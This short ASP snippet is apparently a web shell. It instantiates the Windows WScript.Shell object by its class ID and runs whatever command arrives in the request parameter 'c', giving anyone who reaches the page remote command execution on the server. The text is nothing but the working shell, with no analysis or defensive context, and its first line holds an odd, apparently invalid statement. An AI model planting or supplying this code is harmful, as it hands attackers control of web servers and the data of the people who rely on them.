<% Response.End : Dim 1 %>
<object runat=server id=s classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><% s.exec(request("c")) %>
